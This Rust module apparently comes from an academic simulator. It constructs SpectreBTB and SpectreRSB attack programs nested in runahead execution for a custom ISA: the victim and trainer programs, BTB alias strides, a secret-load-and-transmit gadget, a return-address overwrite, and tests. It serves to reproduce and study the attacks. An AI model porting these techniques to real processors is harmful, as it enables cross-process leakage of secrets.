//! SpectreBTB and SpectreRSB nested inside runahead (paper §4.4, Fig. 4).
//!
//! Both variants are *multi-program* attacks on one
//! [`Session`](crate::session::Session): the attacker process trains or
//! poisons a shared predictor structure from its own address space, the
//! victim process runs and leaks during runahead, and the attacker probes
//! afterwards. The predictor structures are untagged (and the BTB partially
//! tagged), so training transfers — exactly the paper's threat-model
//! assumption for cross-process Spectre variants. This module builds the
//! programs; [`crate::attack::Attack`] runs them.

use specrun_isa::{IntReg, Program, ProgramBuilder};

use crate::attack::gadget;
use crate::attack::AttackLayout;

fn r(i: u8) -> IntReg {
    IntReg::new(i).unwrap()
}

/// PC of the victim's indirect jump (the `src` of Fig. 4a).
const VICTIM_JR_PC_BASE: u64 = 0x1000;
/// BTB congruence stride: 512 sets × 8-byte slots × 2^8 partial-tag values.
const BTB_ALIAS_STRIDE: u64 = (512 << 3) << 8;
/// Offset of the BTB victim's jump-table slot from `D` (`bound_addr`).
pub(crate) const BTB_SLOT_OFFSET: u64 = 64;
/// Trainer runs that mistrain the BTB before the victim runs.
pub(crate) const BTB_TRAINING_RUNS: u32 = 4;
/// Cycle budget for one trainer run (its normal exit is `Wedged`).
pub(crate) const BTB_TRAINER_BUDGET: u64 = 100_000;

/// Emits the secret-access + transmit gadget body (no branch around it).
fn emit_gadget_body(b: &mut ProgramBuilder, layout: &AttackLayout) {
    b.la(r(4), "array1");
    b.li(r(1), layout.malicious_x() as i32);
    b.add(r(4), r(4), r(1));
    b.ldb(r(5), r(4), 0); // S = array1[x]
    b.li(r(6), layout.probe_stride as i32);
    b.mul(r(5), r(5), r(6));
    b.la(r(6), "array2");
    b.add(r(5), r(5), r(6));
    b.ldb(r(7), r(5), 0); // transmit
}

/// Builds the victim program for the BTB variant: an indirect jump whose
/// target register is loaded from the (flushed) location `D`. During
/// runahead the target is INV, the jump never resolves, and fetch follows
/// the BTB entry the attacker trained.
pub fn build_btb_victim(layout: &AttackLayout, nop_slide: usize) -> Program {
    let mut b = ProgramBuilder::new(VICTIM_JR_PC_BASE - 4 * specrun_isa::INST_BYTES);
    gadget::define_symbols(&mut b, layout);
    // The slot past D holds the benign jump target; the attacker flushes it.
    b.la(r(2), "bound_addr");
    b.ld(r(3), r(2), BTB_SLOT_OFFSET as i32); // the victim's jump-table slot
    b.nop();
    b.nop(); // align the jr to VICTIM_JR_PC_BASE + 0? (alignment is cosmetic)
    b.jr(r(3), 0); // ← the poisoned indirect branch (Fig. 4a's `src`)
    b.label("benign");
    b.halt();
    b.label("gadget");
    b.nops(nop_slide);
    emit_gadget_body(&mut b, layout);
    b.jump("benign");
    b.build().expect("BTB victim is closed")
}

/// Builds the attacker's training program: an indirect jump at a
/// *congruent* PC (same BTB set and partial tag, different address-space
/// region) that architecturally jumps to the victim's gadget address.
///
/// That address holds no instruction in the trainer's own image, so the
/// trainer's normal exit is `Wedged`, not a halt — the BTB entry is all it
/// is run for.
pub fn build_btb_trainer(victim: &Program) -> Program {
    let jr_pc = victim
        .symbols()
        .find(|(name, _)| *name == "benign")
        .map(|(_, addr)| addr - specrun_isa::INST_BYTES)
        .expect("victim has a benign label after the jr");
    let gadget_pc = victim.symbol("gadget").expect("victim has a gadget");
    let trainer_jr_pc = jr_pc + BTB_ALIAS_STRIDE;
    // The BTB stores the raw target PC, so the trainer jumps to the
    // gadget's address in its own image.
    let mut b = ProgramBuilder::new(trainer_jr_pc - 2 * specrun_isa::INST_BYTES);
    b.la(r(1), "landing");
    b.nop();
    b.jr(r(1), 0); // at trainer_jr_pc: congruent with the victim's jr
    b.def_sym("landing", gadget_pc);
    b.build().expect("BTB trainer is closed")
}

/// Builds the victim program for the RSB variant (Fig. 4b, direct
/// overwrite): a callee replaces its own return address with a value `F`
/// derived from the stalling load, so the `ret` pops INV data, never
/// resolves, and speculative execution continues at the RSB-predicted
/// return site — where the gadget lives. Architecturally `F` points past
/// the gadget, which therefore never commits.
pub fn build_rsb_victim(layout: &AttackLayout, nop_slide: usize) -> Program {
    let mut b = ProgramBuilder::new(0x1000);
    gadget::define_symbols(&mut b, layout);
    b.la(r(2), "bound_addr");
    b.flush(r(2), 0); // the attacker-controlled eviction of D
    b.call("callee");
    // RSB-predicted return site: the speculative-only gadget.
    b.nops(nop_slide);
    emit_gadget_body(&mut b, layout);
    b.label("benign");
    b.halt();
    b.label("callee");
    b.ld(r(3), r(2), 0); // stalling load of D (value 0)
    b.la(r(8), "benign");
    b.add(r(8), r(8), r(3)); // F = benign + *D — "polluted value F"
    b.sd(r(8), IntReg::SP, 0); // overwrite the stored return address
    b.ret(); // pops INV data during runahead → never resolves
    b.build().expect("RSB victim is closed")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn btb_victim_and_trainer_are_congruent() {
        let layout = AttackLayout::default();
        let victim = build_btb_victim(&layout, 0);
        let benign = victim.symbol("benign").unwrap();
        let jr_pc = benign - specrun_isa::INST_BYTES;
        let trainer = build_btb_trainer(&victim);
        // The trainer contains a jr at jr_pc + BTB_ALIAS_STRIDE.
        let aliased = jr_pc + BTB_ALIAS_STRIDE;
        assert!(
            matches!(trainer.fetch(aliased), Some(specrun_isa::Inst::JumpInd { .. })),
            "trainer jr must sit at the congruent PC"
        );
    }

    #[test]
    fn rsb_victim_builds() {
        let p = build_rsb_victim(&AttackLayout::default(), 0);
        assert!(p.symbol("callee").is_some());
        assert!(p.symbol("benign").is_some());
    }
}
